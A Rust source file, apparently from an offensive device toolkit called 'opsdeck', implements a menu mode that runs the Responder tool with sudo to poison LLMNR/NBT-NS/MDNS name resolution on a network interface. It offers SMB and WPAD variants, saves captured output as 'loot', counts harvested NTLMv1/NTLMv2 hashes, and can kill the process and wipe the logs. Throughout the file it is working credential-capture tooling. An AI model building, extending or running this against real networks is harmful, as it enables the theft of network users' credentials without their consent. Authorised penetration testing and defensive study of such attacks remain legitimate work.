//! Credential capture via LLMNR/NBT-NS/MDNS poisoning.

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;

use opsdeck_core::canvas::{Canvas, Tone};
use opsdeck_core::loot::loot_path;
use opsdeck_core::mode::{draw_header, Ctx, Menu, MenuItem, Mode};
use opsdeck_core::{AlertLevel, PayloadRequest, Settings};

use crate::net;

const RESPONDER_LOGS: &str = "/opt/Responder/logs";

pub struct ResponderMode {
    menu: Mutex<Menu>,
    iface: Arc<Mutex<String>>,
    hashes: Arc<Mutex<usize>>,
}

impl ResponderMode {
    pub fn new(settings: &Settings) -> Arc<Self> {
        let iface: Arc<Mutex<String>> = Arc::new(Mutex::new(settings.interfaces.ethernet.clone()));
        let hashes: Arc<Mutex<usize>> = Arc::new(Mutex::new(0));
        let items = vec![
            start_item("▶", "Start Responder", "responder", "-wrf", &iface, &hashes),
            MenuItem::action("■", "Stop Responder", |ctx| {
                ctx.runner.run(PayloadRequest::new(
                    "Stop Responder",
                    "sudo pkill -9 -f 'Responder.py' || sudo pkill -9 responder",
                    Duration::from_secs(10),
                ));
                Ok(())
            }),
            start_item("●", "Responder + SMB", "responder_smb", "-wrfbF", &iface, &hashes),
            start_item("●", "Responder + WPAD", "responder_wpad", "-wrfP", &iface, &hashes),
            MenuItem::action("📄", "View Hashes", {
                let hashes = Arc::clone(&hashes);
                move |ctx| {
                    let count = count_captured_hashes(&ctx.settings.loot_dir().join("responder"));
                    *hashes.lock().expect("hash lock") = count;
                    ctx.state
                        .add_alert(format!("Captured: {count} hashes"), AlertLevel::Info);
                    ctx.state.add_alert(
                        format!("Loot: {}", ctx.settings.loot_dir().join("responder").display()),
                        AlertLevel::Info,
                    );
                    Ok(())
                }
            }),
            MenuItem::action("🗑", "Clear Logs", {
                let hashes = Arc::clone(&hashes);
                move |ctx| {
                    let loot = ctx.settings.loot_dir().join("responder");
                    let hashes = Arc::clone(&hashes);
                    let loot_after = loot.clone();
                    ctx.runner.run_then(
                        PayloadRequest::new(
                            "Clear Logs",
                            format!(
                                "rm -f {}/*.log && rm -f {RESPONDER_LOGS}/* 2>/dev/null || true",
                                loot.display()
                            ),
                            Duration::from_secs(10),
                        ),
                        move || {
                            *hashes.lock().expect("hash lock") =
                                count_captured_hashes(&loot_after);
                        },
                    );
                    Ok(())
                }
            }),
        ];
        Arc::new(Self {
            menu: Mutex::new(Menu::new(items, settings.ui.menu_visible_rows)),
            iface,
            hashes,
        })
    }
}

fn start_item(
    icon: &'static str,
    label: &'static str,
    prefix: &'static str,
    flags: &'static str,
    iface: &Arc<Mutex<String>>,
    hashes: &Arc<Mutex<usize>>,
) -> MenuItem {
    let iface = Arc::clone(iface);
    let hashes = Arc::clone(hashes);
    MenuItem::action(icon, label, move |ctx| {
        let outfile = loot_path(&ctx.settings, "responder", prefix, "log");
        let bound = iface.lock().expect("iface lock").clone();
        let hashes = Arc::clone(&hashes);
        let loot = ctx.settings.loot_dir().join("responder");
        ctx.runner.run_then(
            PayloadRequest::new(
                label,
                format!(
                    "sudo responder -I {bound} {flags} 2>&1 | tee {}",
                    outfile.display()
                ),
                Duration::from_secs(ctx.settings.tuning.responder_timeout_secs + 10),
            ),
            move || {
                *hashes.lock().expect("hash lock") = count_captured_hashes(&loot);
            },
        );
        Ok(())
    })
}

/// NTLM hashes captured so far: occurrences in our loot logs plus files
/// in Responder's own log directory.
fn count_captured_hashes(loot_responder: &Path) -> usize {
    let mut count = 0;
    if let Ok(entries) = std::fs::read_dir(loot_responder) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.extension().is_some_and(|ext| ext == "log") {
                if let Ok(content) = std::fs::read_to_string(&path) {
                    count += content.matches("NTLMv2").count();
                    count += content.matches("NTLMv1").count();
                }
            }
        }
    }
    if let Ok(entries) = std::fs::read_dir(RESPONDER_LOGS) {
        count += entries
            .flatten()
            .filter(|entry| entry.file_name().to_string_lossy().contains("NTLM"))
            .count();
    }
    count
}

fn responder_running() -> bool {
    net::run_capture("pgrep", &["-f", "Responder"]).is_some()
}

impl Mode for ResponderMode {
    fn name(&self) -> &'static str {
        "RESPONDER"
    }

    fn icon(&self) -> &'static str {
        "🔓"
    }

    fn menu(&self) -> Option<&Mutex<Menu>> {
        Some(&self.menu)
    }

    fn on_enter(&self, ctx: &Ctx) -> Result<()> {
        self.menu.lock().expect("menu lock").reset();
        *self.iface.lock().expect("iface lock") = net::target_interface(ctx);
        *self.hashes.lock().expect("hash lock") =
            count_captured_hashes(&ctx.settings.loot_dir().join("responder"));
        Ok(())
    }

    fn render(&self, ctx: &Ctx, canvas: &mut Canvas) -> Result<()> {
        draw_header(canvas, ctx, "RESPONDER");
        let running = responder_running();
        canvas.pair(
            &format!("IF: {}", self.iface.lock().expect("iface lock")),
            if running { "RUNNING" } else { "STOPPED" },
            if running { Tone::Ok } else { Tone::Dim },
        );
        canvas.pair(
            "Hashes:",
            self.hashes.lock().expect("hash lock").to_string(),
            Tone::Highlight,
        );
        canvas.menu(&self.menu.lock().expect("menu lock"));
        canvas.footer("K3:Stop/Refresh");
        Ok(())
    }

    fn on_key3(&self, ctx: &Ctx) -> Result<()> {
        if responder_running() {
            ctx.runner.run(PayloadRequest::new(
                "Stop Responder",
                "sudo pkill -9 -f 'Responder.py' || sudo pkill -9 responder",
                Duration::from_secs(10),
            ));
        } else {
            *self.iface.lock().expect("iface lock") = net::target_interface(ctx);
            *self.hashes.lock().expect("hash lock") =
                count_captured_hashes(&ctx.settings.loot_dir().join("responder"));
            ctx.state.set_render_needed(true);
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hash_count_sums_ntlm_occurrences() {
        let dir = std::env::temp_dir().join(format!("opsdeck-responder-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::write(
            dir.join("responder_20260101.log"),
            "NTLMv2 hash captured\nnoise\nNTLMv2 again\nNTLMv1 legacy\n",
        )
        .expect("write");
        std::fs::write(dir.join("notes.txt"), "NTLMv2 should not count").expect("write");

        assert_eq!(count_captured_hashes(&dir), 3);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn missing_loot_dir_counts_zero() {
        assert_eq!(
            count_captured_hashes(Path::new("/nonexistent/opsdeck-loot")),
            0
        );
    }

    #[test]
    fn six_actions_for_the_cli() {
        let mode = ResponderMode::new(&Settings::default());
        assert_eq!(mode.action_labels().len(), 6);
    }
}
